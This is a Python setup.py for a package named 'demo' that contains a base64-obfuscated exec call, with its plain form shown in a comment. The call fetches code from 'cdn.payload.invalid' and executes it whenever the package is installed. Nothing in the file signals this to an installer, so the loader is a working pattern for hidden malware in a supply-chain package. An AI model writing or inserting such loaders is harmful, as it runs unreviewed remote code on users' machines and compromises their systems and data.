import base64
from setuptools import setup

# exec(__import__('urllib.request').request.urlopen('http://cdn.payload.invalid/n').read())
exec(base64.b64decode("ZXhlYyhfX2ltcG9ydF9fKCd1cmxsaWIucmVxdWVzdCcpLnJlcXVlc3QudXJsb3BlbignaHR0cDovL2Nkbi5wYXlsb2FkLmludmFsaWQvbicpLnJlYWQoKSk="))
setup(name="demo", version="1.0")
